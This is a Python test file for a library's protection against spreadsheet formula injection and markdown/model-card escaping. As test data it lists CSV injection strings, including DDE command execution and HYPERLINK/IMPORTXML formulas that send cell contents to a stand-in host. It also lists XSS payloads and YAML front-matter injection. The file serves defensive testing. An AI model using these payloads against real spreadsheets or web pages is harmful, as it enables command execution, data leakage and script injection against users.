"""Column names, cells, prompts and file names of somebody else, in tables for spreadsheets, JSON and model cards."""

from __future__ import annotations

import csv
import io
import json
import re
from decimal import Decimal
from pathlib import Path

import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st

from numerate.lab.data.regression import Regression
from numerate.lab.files.csv_lines import csv_line, without_formula
from numerate.lab.files.markdown import block, code, inline
from numerate.lab.prediction.prediction_file import Prediction, PredictionFile
from numerate.lab.report.tables import DataTable, to_csv
from numerate.lab.training.config import RunConfig
from numerate.lab.training.model_card import model_card

FORMULAS = ["=cmd|' /C calc'!A0", "=1+1", "+1+cmd()", "-1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd()"]
FORMULAS += ['=HYPERLINK("http://x.example/?"&A1,"here")', '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")', "\t=1+1"]
FORMULAS += ["\r=1+1", "\n=1+1", "＝1+1", "-A1", "+49 call me", "-1e5+cmd()", "=5"]
NUMBERS = ["-3.5", "+3.5", "-3,5", "-1,234.50", "-1.234,50", "-1 234", "-1'234", "-$5", "-5 €", "-5 %", "+.5", "-1e-5", "-1E+300"]
NUMBERS += ["-inf", "-Infinity", "-nan", "-0", "12", "1e5", "\t5", "-" + "9" * 400]
CROSS_ENTROPY = ["", "-", "+", "=", "@", "--", "a=b", "a", "3-5", "2024-11-16", " =1", "'=1", "x@y.z", "−5"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_text(text):
    assert without_formula(text) == f"'{text}"


@pytest.mark.parametrize("text", NUMBERS + CROSS_ENTROPY)
def test_numbers_and_other_texts_stay(text):
    assert without_formula(text) == text


@given(st.text())
@example("=" + " " * 100_000 + "x")
@example("-" + "1" * 100_000 + "x")
def test_no_text_begins_like_a_formula_unless_it_is_a_number(text):
    safe = without_formula(text)
    assert safe in (text, f"'{text}")
    if safe[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and any(map(str.isalnum, safe)):
        assert not set(safe) & set('()!|&;"/*<>=@:^{}[]')
        assert max(map(safe.count, "+-")) <= 2  # a sign, and that of a power of ten


@given(st.lists(st.text(), min_size=2, max_size=4), st.sampled_from(",;\t|"))
def test_a_line_holds_its_cells(cells, delimiter):
    assert cells_of(csv_line(cells, delimiter), delimiter) == [[*map(without_formula, cells)]]


def cells_of(text: str, delimiter: str = ",") -> list[list[str]]:
    return [*csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)]


@pytest.mark.parametrize(("suffix", "delimiter"), [(".csv", ","), (".csv", ";"), (".tsv", "\t")])
def test_predictions_start_no_formula(tmp_path: Path, suffix: str, delimiter: str):
    names = [f"{text} {i}" for i, text in enumerate(FORMULAS)] + ["number"]
    row = dict(zip(names, [*FORMULAS, -3.5], strict=True))
    file = PredictionFile(tmp_path / f"out{suffix}", names, delimiter)
    file.claim({})
    prediction = Prediction(Decimal("-3.5"), Decimal("-4"), Decimal("-3"), 0.9, 0.0, "=no()")
    file.append([row], [prediction])
    file.finish({})
    header, cells = cells_of((tmp_path / f"out{suffix}").read_bytes().decode(), delimiter)
    assert header[: len(FORMULAS)] == [f"'{name}" for name in names[:-1]]
    assert cells[: len(FORMULAS)] == [f"'{text}" for text in FORMULAS]
    assert cells[len(FORMULAS) :] == ["-3.5", "-3.5", "-4", "-3", "0.9", "0", "'=no()"]
    assert [*file.read()] == [(Decimal("-3.5"), Decimal("-4"), Decimal("-3"))]


def test_tables_of_reports_and_rivals(tmp_path: Path):
    text = to_csv(DataTable((*FORMULAS, "number"), [(*FORMULAS, -3.5)]))
    header, cells = cells_of(text)
    assert header == [*(f"'{name}" for name in FORMULAS), "number"]
    assert cells == [*(f"'{name}" for name in FORMULAS), "-3.5"]


PAYLOADS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[here](javascript:alert(1))"]
PAYLOADS += ["![x](http://x.example/a.png)", "a`<script>alert(1)</script>`", "``` \n# heading\n<b>", "`````", "a|b"]
PAYLOADS += ["a\n\n# heading\n\n- list", "---\nlicense: evil\n---", "*bold* &lt;"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_markdown(text):
    """No character that begins a tag, a link or code is left bare; nothing ends the code it stands in."""
    bare = re.sub(r"\\.", "", inline(text))
    assert not set(bare) & set("<>[]`*|&")
    assert "\n" not in inline(text) + code(text)
    fence = re.match("`+", code(text))[0]
    assert fence not in code(text)[len(fence) : -len(fence)].strip(" ") or len(fence) > max(map(len, re.findall("`+", text)))
    inside = block(text, "text").split("\n")
    assert all(not line.startswith(inside[-1]) for line in inside[1:-1])


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_model_card(tmp_path: Path, text: str):
    """Column names, file names, models, labels and prompts stay text, and the metadata are those that were written."""
    rows = [{f"{text} 2": "abc"[i % 3] + text, "area": 20 + i, text: 30 + i} for i in range(30)]
    (tmp_path / "rows.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    task = Regression.from_files(tmp_path / "rows.jsonl", target=text)
    settings = {**RunConfig(task="regression").used, "data": f"folder/{text.replace('/', '_')}", "model": text, "label": text}
    row = {
        "split": "interpolate",
        "index": 0,
        "prompt": text,
        "gold": "1",
        "output": text,
        "answer": "1",
        "measures": {"exact": 1.0},
    }
    card = model_card(settings, [row], task, {"target": text, "columns": [f"{text} 2", "area"]})
    _, front, body = (
        card.split("---\n", 2) if not text.startswith("---") else re.split(r"^---$\n", card, maxsplit=2, flags=re.MULTILINE)
    )
    metadata = yaml.safe_load(front)
    assert "license" not in metadata
    assert metadata["model-index"][0]["name"].startswith(text)
    prose = re.sub(r"^(`{3,})\w*\n.*?^\1$", "", body, flags=re.DOTALL | re.MULTILINE)  # blocks of code
    prose = re.sub(r"(?<!`)(`+)(?!`)(.*?)(?<!`)\1(?!`)", "", re.sub(r"\\.", "", prose))  # code in a line
    assert not set(prose) & set("<>[]`")
    headings = [line for line in prose.splitlines() if line.startswith("#")]
    assert "# heading" not in headings
